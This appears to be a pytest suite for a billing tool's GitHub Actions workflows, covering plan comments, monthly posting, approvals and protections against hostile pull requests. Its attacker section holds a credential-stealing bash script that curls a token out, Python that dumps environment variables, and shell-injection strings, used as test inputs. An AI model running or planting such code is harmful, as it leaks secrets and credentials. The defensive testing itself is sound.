"""The workflows that `init` writes, run job by job: what a pull request shows, what an approval posts, and what stops a run."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from chargeplan.core.approval import write_key
from chargeplan.journal import open_journal
from chargeplan.planfile.approvals import write_new_key
from chargeplan.sandbox.faults import Fault
from tests.e2e.house import BATCH, INTEGRATION, OAK
from tests.pipelines.codehost import BOT
from tests.pipelines.conftest import PLAN

CHECK = "chargeplan-check.yaml"
PULL = "chargeplan-pull-request.yaml"
BILLING = "chargeplan-billing.yaml"
APPLY = "chargeplan-apply.yaml"
RECONCILE = "chargeplan-reconcile.yaml"
OURS = {
    "pull_request": {"number": 7, "user": {"login": "pat"}, "head": {"repo": {"full_name": "acme/billing"}}}
}
FORK = {
    "pull_request": {"number": 7, "user": {"login": "eve"}, "head": {"repo": {"full_name": "eve/billing"}}}
}
BOTS = {
    "pull_request": {
        "number": 7,
        "user": {"login": "dependabot[bot]"},
        "head": {"repo": {"full_name": "acme/billing"}},
    }
}
TARGET = "pull_request_target"
LAST = "12 to post ($300.00)"


def results(jobs):
    return {name: job.result for name, job in jobs.items()}


# --- a pull request ------------------------------------------------------------------------------------------------


def test_a_pull_request_is_answered_with_the_money(project):
    """The difference in its first three lines, month by month, then the month's plan."""
    project.edit("plans/oak-street.yaml", "25.00", "30.00")
    jobs = project.github().run(PULL, TARGET, OURS)
    assert results(jobs) == {"plan": "success"}
    (comment,) = project.host.by(BOT)
    assert comment.startswith(
        "<!-- chargeplan:plan:production -->\n### +$60.00 in August 2027: 12 lines changed; +$60.00 in September 2027"
    )
    assert "| August 2027 | Oak Street Apartments | Amenity Fee | $300.00 | $360.00 | +$60.00 |  |" in comment
    assert "12 to post ($360.00)" in comment
    assert jobs["plan"].summary == comment
    assert project.posted() == []


AMENITY = "    code: Amenity Fee\n    amount: 25.00\n"
PARKING = """\
  parking:
    code: Parking
    amount: {from: roster.amount}
    roster: rosters/spaces.csv
    schedule: {every: month, day: 1}
"""
SPACES = "unit,amount\n201,75.00\n204,75.00\n"
UTILITIES = PLAN.replace("plan: oak-street", "plan: utilities").replace(
    "amenity:\n    code: Amenity Fee", "trash:\n    code: Trash"
)


@pytest.mark.parametrize(
    ("old", "new", "money"),
    [
        (AMENITY, f"{AMENITY}    steps: [{{from: 2027-12-01, change: '+9.5%'}}]\n", "+$23.80 in December 2027: 12 lines changed"),
        ("204,75.00\n", "204,75.00\n205,75.00\n", "+$75.00 in August 2027: 1 line added"),
        ("  amenity:", "  club-room:", "$0.00 in August 2027: 12 lines added, 12 removed"),
        (PARKING, "", "-$150.00 in August 2027: 2 lines removed"),
        ("", UTILITIES, "+$300.00 in August 2027: 12 lines added"),
        ("amount: 25.00", "amount: 250.00", "+$2,700.00 in August 2027: 12 lines changed"),
        ("code: Amenity Fee", "code: Trash", "$0.00 in August 2027: 12 lines changed"),
        ('"21[0-2]"', '"210"', "-$50.00 in August 2027: 2 lines removed"),
        ("day: 1}\n  parking", "day: 1, through: 2027-09-30}\n  parking", "-$300.00 in October 2027: 12 lines removed"),
        (AMENITY, f"{AMENITY}    description: Club room\n", "no money in August 2027: 12 lines changed"),
    ],
    ids=["a raise of next winter", "a row", "a rename", "a charge less", "a new plan", "a wrong rate", "another code", "units less", "an end", "a text"],
)  # fmt: skip
def test_ten_pull_requests_name_their_money_in_three_lines(project, old, new, money):
    (project.folder / "plans" / "rosters").mkdir(exist_ok=True)
    (project.folder / "plans" / "rosters" / "spaces.csv").write_text(SPACES)
    project.plan.write_text(project.plan.read_text() + PARKING)
    project.repository.commit("main")
    place = "plans/rosters/spaces.csv" if "204," in old else "plans/oak-street.yaml"
    if old:
        project.edit(place, old, new)
    else:
        (project.folder / "plans" / "utilities.yaml").write_text(new)
    assert project.github().run(PULL, TARGET, OURS)["plan"].result == "success"
    (comment,) = project.host.by(BOT)
    assert money in "\n".join(comment.splitlines()[:3])
    assert project.posted() == []


def test_the_same_comment_is_updated(project):
    hub = project.github()
    project.edit("plans/oak-street.yaml", "25.00", "28.00")
    hub.run(PULL, TARGET, OURS)
    project.edit("plans/oak-street.yaml", "28.00", "30.00")
    hub.run(PULL, TARGET, OURS)
    (comment,) = project.host.by(BOT)
    assert "12 to post ($360.00)" in comment
    project.edit("plans/oak-street.yaml", "30.00", "25.00")
    hub.run(PULL, TARGET, OURS)
    (comment,) = project.host.by(BOT)
    assert "### No difference through October 2027: everybody is billed as before" in comment


def test_where_nobody_is_billed_otherwise_there_is_no_comment(project):
    project.edit("plans/oak-street.yaml", "amount: 25.00", "amount: 25.00  # as agreed")
    assert project.github().run(PULL, TARGET, OURS)["plan"].result == "success"
    assert project.host.by(BOT) == []


def test_a_change_above_the_limit_is_shown_then_fails(project):
    project.edit(
        ".github/workflows/chargeplan-pull-request.yaml",
        "mode: plan",
        'mode: plan\n          fail-above: "59.99"',
    )
    hub = project.github()
    hub.workflow(BILLING, "push")
    project.edit("plans/oak-street.yaml", "25.00", "30.00")
    plan = hub.run(PULL, TARGET, OURS)["plan"]
    assert (plan.result, plan.code) == ("failure", 6)
    assert "more otherwise in one month than `fail-above` allows" in plan.log
    assert "+$60.00 in August 2027" in project.host.by(BOT)[0]


def test_only_our_own_comment_is_updated_wherever_it_stands(project):
    """Not that of a person who copied the marker, and not for being beyond the first hundred."""
    hub = project.github()
    marker = "<!-- chargeplan:plan:production -->"
    project.host.add(f"{marker}\nlooks good", "mallory")
    project.host.add("<!-- chargeplan:plan:staging -->\nanother environment's", BOT)
    for number in range(230):
        project.host.add(f"remark {number}", "pat")
    ours = project.host.add(f"{marker}\nan older plan", BOT)
    before = len(project.host.comments)
    jobs = hub.run(PULL, TARGET, OURS)
    assert jobs["plan"].result == "success"
    assert len(project.host.comments) == before
    assert LAST in ours["body"]
    assert project.host.by("mallory") == [f"{marker}\nlooks good"]
    assert sum(each.startswith("GET") for each in project.host.requests) == 3


@pytest.mark.parametrize("payload", [FORK, BOTS], ids=["fork", "Dependabot"])
def test_a_stranger_gets_the_check_and_no_secret(project, payload):
    hub = project.github()
    check = hub.run(CHECK, "pull_request", payload)["check"]
    assert check.result == "success"
    assert check.given("PROPEXO_TOKEN") == check.given("CHARGEPLAN_JOURNAL") == set()
    assert results(hub.run(PULL, TARGET, payload)) == {"plan": "skipped"}
    assert project.host.requests == []


def test_each_secret_is_in_the_step_that_needs_it_alone(project):
    plan = project.github().run(PULL, TARGET, OURS)["plan"]
    assert {each.name for each in plan.steps} == {"Install chargeplan", "Plan", "Comment", "Verdict"}
    assert plan.given("PROPEXO_TOKEN") == plan.given("CHARGEPLAN_JOURNAL") == {"Plan"}
    assert plan.given("CHARGEPLAN_COMMENT_TOKEN") == {"Comment"}
    for secret in (*project.secrets.values(), "ghs_commenttoken"):
        assert secret not in plan.log + plan.summary


def test_a_mistake_fails_the_check(project):
    project.edit("plans/oak-street.yaml", "amount:", "amuont:")
    jobs = project.github().run(CHECK, "pull_request", OURS)
    assert results(jobs) == {"check": "failure"}
    assert "plans/oak-street.yaml:8" in jobs["check"].log


def test_a_failing_test_of_the_plans_fails_the_check(project):
    tests = project.folder / "plans" / "tests"
    (tests / "amenity.yaml").write_text(PLAN_TEST)
    hub = project.github()
    assert results(hub.run(CHECK, "pull_request", OURS)) == {"check": "success"}
    project.edit("plans/oak-street.yaml", "25.00", "26.00")
    assert results(hub.run(CHECK, "pull_request", OURS)) == {"check": "failure"}


def test_an_unknown_charge_code_is_shown_then_fails(project):
    project.edit("plans/oak-street.yaml", "Amenity Fee", "Amenety Fee")
    jobs = project.github().run(PULL, TARGET, OURS)
    assert results(jobs) == {"plan": "failure"}
    assert jobs["plan"].code == 1
    (comment,) = project.host.by(BOT)
    assert "Amenety Fee" in comment


def test_where_no_plan_could_be_made_the_comment_stops_showing_the_old_one(project):
    hub = project.github()
    project.edit("plans/oak-street.yaml", "25.00", "30.00")
    hub.run(PULL, TARGET, OURS)
    assert "+$60.00" in project.host.by(BOT)[0]
    hub.secrets["PROPEXO_TOKEN"] = ""
    jobs = hub.run(PULL, TARGET, OURS)
    assert jobs["plan"].result == "failure"
    (comment,) = project.host.by(BOT)
    assert "+$60.00" not in comment
    assert "nothing can be applied" in comment
    assert "https://github.example/acme/billing/actions/runs/2" in comment


def test_a_token_that_may_not_comment_says_what_it_needs(project):
    project.host.refuses = 403
    plan = project.github().run(PULL, TARGET, OURS)["plan"]
    assert plan.result == "failure"
    assert "::error title=chargeplan::The token may not read this (HTTP 403)" in plan.log
    assert "pull-requests: write" in plan.log


# --- the monthly run -----------------------------------------------------------------------------------------------


def test_the_monthly_run_posts_the_plan_that_was_shown(project):
    hub = project.github()
    jobs = hub.run(BILLING, "schedule")
    assert results(jobs) == {"plan": "success", "apply": "success"}
    plan = jobs["plan"]
    assert (plan.outputs["has_changes"], plan.outputs["total_cents"]) == ("true", "30000")
    assert plan.outputs["digest"] in plan.summary
    assert "| posted | 12 | $300.00 |" in jobs["apply"].summary
    assert sum(each.amount_in_cents for each in project.posted()) == 30_000
    assert len(project.posted()) == 12

    again = hub.run(BILLING, "schedule")
    assert results(again) == {"plan": "success", "apply": "skipped"}
    assert (again["plan"].outputs["has_changes"], again["plan"].outputs["total_cents"]) == ("false", "0")
    assert len(project.posted()) == 12


def test_running_the_apply_job_again_sends_nothing_twice(project):
    hub = project.github()
    jobs = hub.run(BILLING, "schedule")
    job = hub.workflow(BILLING, "schedule")["jobs"]["apply"]
    again = hub.job("apply", job, "schedule", before={"plan": jobs["plan"]})
    assert again.result == "success"
    assert "nothing (exit code 0)" in again.summary
    assert len(project.posted()) == 12


def test_another_digest_posts_nothing(project):
    jobs = run_between(project, lambda hub, plan: plan.outputs.update(digest="sha256:" + "0" * 64))
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 1)
    assert "No run has kept a plan with the digest" in jobs["apply"].log
    assert project.posted() == []


def test_an_altered_plan_file_posts_nothing(project):
    def alter(hub, plan):
        path = project.host.artifacts[0].file
        path.write_text(path.read_text().replace("2500", "9900"))

    jobs = run_between(project, alter)
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 5)
    assert project.posted() == []


def test_plans_edited_after_the_approval_post_nothing(project):
    def merge(hub, plan):
        project.edit("plans/oak-street.yaml", "25.00", "30.00")
        hub.workflow(BILLING, "push")

    jobs = run_between(project, merge)
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 5)
    assert "Run the workflow again" in jobs["apply"].log
    assert project.posted() == []


def test_a_guard_is_shown_then_stops_the_run(project):
    project.edit("chargeplan.yaml", "max_total: 600000.00", "max_total: 100.00")
    jobs = project.github().run(BILLING, "schedule")
    assert results(jobs) == {"plan": "failure", "apply": "skipped"}
    assert jobs["plan"].code == 6
    assert "refused**: $300.00, the limit is $100.00" in jobs["plan"].summary
    assert "with `allow` and `reason`" in jobs["plan"].log
    assert project.posted() == []


def test_a_guard_is_overridden_by_hand_with_a_reason(project):
    project.edit("chargeplan.yaml", "max_total: 600000.00", "max_total: 100.00")
    jobs = project.github().run(
        BILLING, "workflow_dispatch", allow="max_total=400.00", reason='new; $(touch x) `y` "building"'
    )
    assert results(jobs) == {"plan": "success", "apply": "success"}
    assert len(project.posted()) == 12
    history = project.run("history", "--env", "production", "--json").stdout
    assert "new; $(touch x) `y`" in history


def test_refused_lines_fail_the_job_and_say_what_next(project):
    project.state.add_faults(Fault(method="POST", path=BATCH, status=403, work=False))
    jobs = project.github().run(BILLING, "schedule")
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 3)
    assert "posts only what is missing" in jobs["apply"].log


def test_unknown_lines_fail_until_they_are_reconciled(project):
    project.state.add_faults(Fault(method="POST", path=BATCH, drop="after", log="late"))
    hub = project.github()
    jobs = hub.run(BILLING, "schedule")
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 4)
    assert "They are not sent again" in jobs["apply"].log
    first = hub.run(RECONCILE, "schedule")["reconcile"]
    assert (first.result, first.code) == ("failure", 4)
    project.state.approve()
    project.state.sync()
    assert hub.run(RECONCILE, "schedule")["reconcile"].result == "success"
    assert len(project.posted()) == 12


def test_a_lock_of_another_run_posts_nothing(project):
    project.edit(
        ".github/actions/chargeplan/action.yml",
        "CHARGEPLAN_DEADLINE:",
        'CHARGEPLAN_LOCK_TIMEOUT: "0"\n        CHARGEPLAN_DEADLINE:',
    )
    with (
        open_journal(project.journal, create=False) as journal,
        journal.lock(INTEGRATION, [OAK], purpose="apply", timeout=0),
    ):
        jobs = project.github().run(BILLING, "schedule")
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 7), jobs["apply"].log
    assert project.posted() == []


def test_pip_is_told_what_main_says_and_not_what_a_pull_request_says(project):
    project.edit(".github/actions/chargeplan/requirements.txt", "chargeplan[", "evil[")
    hub = project.github()
    assert hub.run(PULL, TARGET, OURS)["plan"].result == "success"
    (told,) = hub.folder.glob("*/pip.txt")
    assert told.read_text().split()[-2] == "-r"
    requirements = told.read_text().split()[-1]
    assert "evil" not in Path(requirements).read_text()


def test_where_nothing_is_known_to_install_the_job_says_what_to_write(project, written):
    name = ".github/actions/chargeplan/requirements.txt"
    (project.folder / name).write_text((written / "environments" / name).read_text())
    job = project.github().run(RECONCILE, "schedule")["reconcile"]
    assert job.result == "failure"
    assert "says nowhere where chargeplan comes from" in job.log


@pytest.mark.parametrize("journal", ["", ".chargeplan/production.db"], ids=["not set", "a file"])
def test_a_journal_that_would_go_with_the_runner_is_refused(project, journal):
    hub = project.github()
    hub.secrets["CHARGEPLAN_JOURNAL"] = journal
    jobs = hub.run(BILLING, "schedule")
    assert results(jobs) == {"plan": "failure", "apply": "skipped"}
    assert "Nothing was sent." in jobs["plan"].log
    assert "CHARGEPLAN_JOURNAL" in jobs["plan"].log


def run_between(project, meddle):
    """The monthly run, with something that happens between the plan and the approval."""
    hub = project.github()
    document = hub.workflow(BILLING, "schedule")
    plan = hub.job("plan", document["jobs"]["plan"], "schedule")
    assert plan.result == "success"
    meddle(hub, plan)
    return {
        "plan": plan,
        "apply": hub.job("apply", document["jobs"]["apply"], "schedule", before={"plan": plan}),
    }


# --- every day -----------------------------------------------------------------------------------------------------


def test_each_day_says_in_one_line_what_is_to_do(project):
    notice = [
        line
        for line in project.github().run(BILLING, "schedule")["plan"].log.splitlines()
        if "::notice" in line
    ]
    assert len(notice) == 1
    assert (
        "production, 2027-08-02: 12 to post ($300.00), 0 missed, 0 held, 0 open, 0 drifted, 0 removed."
        in notice[0]
    )
    assert "Somebody has to apply it: sha256:" in notice[0]


def test_options_of_the_plan_are_given_by_hand(project):
    jobs = project.github().run(BILLING, "workflow_dispatch", **{"plan-options": "--property nowhere"})
    assert jobs["plan"].result == "failure"
    assert "No plan covers a property `nowhere`" in jobs["plan"].log


# --- by hand, with the digest ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("approval", ["dispatch"])
def test_a_person_posts_the_plan_whose_digest_the_issue_shows(project, approval):
    hub = project.github()
    assert results(hub.run(BILLING, "schedule")) == {"plan": "success"}
    assert project.posted() == []
    (issue,) = project.host.issues
    assert LAST in issue["body"]
    digest = re.search(r"sha256:[0-9a-f]{64}", issue["body"])[0]
    jobs = hub.run(APPLY, "workflow_dispatch", digest=f" {digest} ")
    assert results(jobs) == {"apply": "success"}
    assert len(project.posted()) == 12
    hub.run(BILLING, "schedule")
    assert issue["state"] == "closed"
    assert len(project.host.issues) == 1


@pytest.mark.parametrize("approval", ["dispatch"])
@pytest.mark.parametrize(
    ("digest", "said"),
    [("", "There is no digest"), ("sha256:beef; touch x", "or it is none"), ("sha256:" + "0" * 64, "No run has kept a plan")],
)  # fmt: skip
def test_a_digest_that_is_no_plans_posts_nothing(project, approval, digest, said):
    hub = project.github()
    hub.run(BILLING, "schedule")
    jobs = hub.run(APPLY, "workflow_dispatch", digest=digest)
    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 1)
    assert said in jobs["apply"].log
    assert project.posted() == []


@pytest.mark.parametrize("approval", ["signed"])
def test_who_signs_needs_no_rights_in_the_repository(project, approval, tmp_path):
    """Two people's lines in one field, as a browser joins them."""
    keys = {name: tmp_path / f"{name}.key" for name in ("ada", "ben")}
    people = [f"{{name: {name}, key: '{write_key(write_new_key(path, ''))}'}}" for name, path in keys.items()]
    project.edit(
        "chargeplan.yaml", "guards:", f"approvals: {{required: 2, approvers: [{', '.join(people)}]}}\nguards:"
    )
    hub = project.github()
    plan = hub.run(BILLING, "schedule")["plan"]
    file, signed = project.host.artifacts[0].file, tmp_path / "signed"
    for key in keys.values():
        done = project.run("approve", file, "--key", key, "--out", signed, "--yes")
        assert done.returncode == 0, done.stderr
    digest, lines = plan.outputs["digest"], signed.read_text().splitlines()
    refused = hub.run(APPLY, "workflow_dispatch", digest=digest, approvals=lines[0])["apply"]
    assert (refused.result, refused.code, project.posted()) == ("failure", 6, [])
    assert results(hub.run(APPLY, "workflow_dispatch", digest=digest, approvals="".join(lines))) == {
        "apply": "success"
    }
    assert len(project.posted()) == 12


# --- an attacker ---------------------------------------------------------------------------------------------------

THIEF = '#!/bin/bash\nenv > "$(dirname "${BASH_SOURCE[0]}")/stolen"\ncurl -d @- http://127.0.0.1:9 <<<"$PROPEXO_TOKEN"\n'
SPY = "import os\nopen(os.path.join(os.path.dirname(__file__), 'stolen'), 'w').write(str(os.environ))\n"
CODE = {
    ".github/actions/chargeplan/scripts/plan.sh": THIEF, ".github/actions/chargeplan/scripts/common.sh": THIEF,
    "secrets.py": SPY, "json.py": SPY, "pip.py": SPY, "chargeplan/__init__.py": SPY, "sitecustomize.py": SPY,
    ".github/actions/chargeplan/requirements.txt": "evil @ file:///tmp/evil\n",
}  # fmt: skip


def test_nothing_of_a_pull_request_is_run(project):
    for name, text in CODE.items():
        (project.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (project.folder / name).write_text(text)
    action = project.folder / ".github/actions/chargeplan/action.yml"
    action.write_text(action.read_text().replace('run: exec bash "', 'run: env; exec bash "'))
    hub = project.github()
    plan = hub.run(PULL, TARGET, OURS)["plan"]
    assert plan.result == "success"
    assert list(hub.folder.rglob("stolen")) == []
    for secret in project.secrets.values():
        assert secret not in plan.log + plan.summary


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("http://127.0.0.1:{port}", "http://127.0.0.1:9"),
        ("token_env: PROPEXO_TOKEN", "token_env: CHARGEPLAN_JOURNAL"),
        ("token_env: PROPEXO_TOKEN", "token_env: AWS_SECRET_ACCESS_KEY"),
        ("journal_env: CHARGEPLAN_JOURNAL", "journal_env: PROPEXO_TOKEN"),
        ("journal_env: CHARGEPLAN_JOURNAL", "journal: postgresql://billing@127.0.0.1:9/x"),
    ],
    ids=["host", "journal as token", "another secret as token", "token as journal", "journal elsewhere"],
)  # fmt: skip
def test_a_configuration_that_sends_secrets_elsewhere_ends_before_anything_is_sent(project, old, new):
    project.edit("chargeplan.yaml", old.format(port=project.url.rsplit(":", 1)[1]), new)
    before = len(project.state.requests())
    plan = project.github().run(PULL, TARGET, OURS)["plan"]
    assert plan.result == "failure"
    assert "Nothing was read or sent" in plan.log.replace("\n", " ")
    assert len(project.state.requests()) == before
    (comment,) = project.host.by(BOT)
    for secret in project.secrets.values():
        assert secret not in plan.log + plan.summary + comment


PLAN_TEST = """\
version: 1
title: A household of unit 201 pays 25.00
plans: [../oak-street.yaml]
as_of: 2027-08-02
given:
  units: [{number: 201}]
  leases: [{unit: 201, start: 2027-03-01, end: 2028-02-29, rent: 1000.00, residents: [avery]}]
expect:
  lines: [{charge: amenity, unit: 201, date: 2027-08-01, amount: 25.00}]
"""
